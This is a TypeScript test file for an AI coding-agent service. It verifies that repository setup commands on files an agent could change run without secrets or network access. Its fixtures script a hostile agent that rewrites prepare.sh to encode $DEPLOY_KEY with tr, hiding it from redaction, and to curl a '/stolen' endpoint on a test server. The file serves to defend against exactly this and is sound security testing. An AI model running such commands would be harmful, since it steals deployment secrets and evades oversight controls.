// biome-ignore-all lint/suspicious/noExplicitAny: entries are read without types
import { afterAll, beforeAll, expect, test } from 'vitest'
import { servePlain, type TestServer } from '../../egress/servers.ts'
import type { FakeResponse } from '../../model/fake-server.ts'
import { allLogs, awaitEnd, createRun } from '../await-run.ts'
import { type CodingApp, calls, makeRepository, shell, startCodingApp } from '../coding-app.ts'

const SECRET = 'deploy-key-0123456789'
/**
 * Commands of the repository: they copy what they receive to a file that an agent can read, in a form that no
 * redaction knows.
 */
const prepare = (word: string) =>
  `echo ${word} >made.txt; echo ${word} >~/${word}; echo "[$DEPLOY_KEY]" | tr a-z0-9 b-za0-9 >>~/found\n`

let app: CodingApp
let server: TestServer
let requested: string[]
let script: FakeResponse[]
beforeAll(async () => {
  requested = []
  server = await servePlain((request, response) => {
    requested.push(request.url ?? '')
    response.end('hello')
  })
  const files = { 'prepare.sh': prepare('ours'), 'old.txt': 'old\n', 'README.md': 'read me\n' }
  app = await startCodingApp(
    () => script.shift() ?? { text: 'Done.' },
    { AGENTRUN_ALLOW_PRIVATE_EGRESS: '1' },
    makeRepository(files),
  )
  await app.call('PUT', at('/secrets/DEPLOY_KEY'), { value: SECRET })
})
afterAll(async () => {
  await app[Symbol.asyncDispose]()
  await server[Symbol.asyncDispose]()
})

const at = (path: string) => `/v1/organizations/${app.org_id}${path}`
const setUpBy = async (commands: string[]) =>
  expect((await app.call('PUT', at(`/repos/${app.repo_id}/setup-commands`), { commands })).status).toBe(200)
const ofTool = (logs: any[], name: string) => logs.filter(entry => entry.tool_name === name)
const curl = (path: string) =>
  `env -u http_proxy curl --noproxy '' -s -m 5 -x http://127.0.0.1:3128 http://localhost:${server.port}${path}`
const hostile = () => ({
  name: 'write',
  arguments: {
    path: 'prepare.sh',
    content: `${prepare('theirs')}${curl('/stolen')}
`,
  },
})
const poll = 'cat ~/found; ls ~; cat made.txt prepare.sh mine.txt | head -c 60; ls; git status --porcelain'

test('a setup has no secret and no network access on files that an agent could change; when these are restored, it runs before', async () => {
  await setUpBy(['bash prepare.sh'])
  script = [calls(hostile(), shell('echo mine >mine.txt; rm old.txt')), { text: 'First.' }]
  const { id } = await createRun(app, { prompt: 'work' })
  expect(await awaitEnd(app, id)).toMatchObject({ status: 'completed' })
  const last = (await allLogs(app, id)).at(-1)

  script = [calls(shell(poll)), { text: 'Second.' }]
  const fork = await app.call('POST', at('/agent/run/fork'), { agent_run_id: id, from_seq: last.seq })
  expect(fork.status).toBe(200)
  const forked = await awaitEnd(app, fork.body.id)
  const logs = await allLogs(app, fork.body.id)
  expect(forked, JSON.stringify(logs.slice(-2))).toMatchObject({ status: 'completed' })
  expect(ofTool(logs, 'workspace_restored').map(entry => entry.tool_output)).toMatchObject([
    { status: 'ok', matches: true, up_to_date: true },
  ])
  const seen = ofTool(logs, 'shell')[0].tool_output.output
  expect(seen).toContain('ours\n')
  expect(seen).not.toContain('theirs\n')
  expect(seen).not.toContain('old.txt')
  expect(seen).toContain('mine.txt')
  expect(seen).not.toContain('made.txt\n?')
  expect(app.git('diff', '--name-only', 'main', forked.branch)).toBe('mine.txt\nold.txt\nprepare.sh\n')
  expect(requested).toEqual([])

  // The folder still exists, and the commands have changed.
  script = [calls(shell(poll))]
  await setUpBy(['bash prepare.sh', 'exit 7'])
  await app.call('POST', at('/agent/run/resume'), { agent_run_id: id, prompt: 'again' })
  expect(await awaitEnd(app, id)).toMatchObject({ status: 'completed', turn: 2 })
  const again = await allLogs(app, id)
  expect(ofTool(again, 'shell').at(-1).tool_output.output).toMatch(/^\[\]\n/)
  expect(
    ofTool(again, 'setup_command')
      .slice(-2)
      .map(entry => [entry.tool_input.as, entry.tool_output.exit_code]),
  ).toEqual([
    ['agent', 0],
    ['agent', 7],
  ])
  expect(JSON.stringify(app.model.requests.at(-2)?.body)).toContain(
    'neither the secrets nor the network of a setup',
  )
  expect(requested).toEqual([])
}, 120_000)

test('files that an agent created in a folder of the setup are restored unchanged', async () => {
  await setUpBy(['mkdir -p gen; echo setup >gen/setup'])
  script = [calls(shell('echo mine >mine.txt; mkdir other; echo mine >other/mine')), { text: 'First.' }]
  const { id } = await createRun(app, { prompt: 'work' })
  await awaitEnd(app, id)
  const last = (await allLogs(app, id)).at(-1)
  await setUpBy(['mkdir -p other; echo setup >other/setup; echo setup >mine.txt'])
  script = [calls(shell('cat mine.txt other/mine')), { text: 'Second.' }]
  const fork = await app.call('POST', at('/agent/run/fork'), { agent_run_id: id, from_seq: last.seq })
  expect(await awaitEnd(app, fork.body.id)).toMatchObject({ status: 'completed' })
  const logs = await allLogs(app, fork.body.id)
  expect(ofTool(logs, 'workspace_restored').map(entry => entry.tool_output.status)).toEqual(['error', 'ok'])
  expect(ofTool(logs, 'setup_command').map(entry => entry.tool_input.as)).toEqual([undefined, 'agent'])
  expect(app.git('diff', '--name-only', 'main', (await awaitEnd(app, fork.body.id)).branch)).toContain(
    'other/mine\n',
  )
}, 120_000)

test('a run that starts from the pushed commits of another run is set up with the permissions of agents until a person puts them on a branch', async () => {
  await setUpBy(['bash prepare.sh'])
  script = [calls(hostile()), { text: 'Pushed.' }]
  const first = await awaitEnd(app, (await createRun(app, { prompt: 'work' })).id)
  expect(first.status).toBe('completed')
  const before = requested.length
  const sha = app.git('rev-parse', first.branch).trim()
  const started = async (base_ref: string) => {
    script = [calls(shell(poll))]
    const { id } = await createRun(app, { prompt: 'go on', base_ref })
    expect(await awaitEnd(app, id)).toMatchObject({ status: 'completed' })
    const logs = await allLogs(app, id)
    return [
      ofTool(logs, 'setup_command')[0].tool_input.as,
      ofTool(logs, 'shell')[0].tool_output.output.split('\n')[0],
    ]
  }
  for (const base_ref of [first.branch, sha]) expect(await started(base_ref)).toEqual(['agent', '[]'])
  expect(requested.length).toBe(before)
  app.git('branch', 'taken', sha)
  expect((await started('taken'))[0]).toBe(undefined)
}, 120_000)
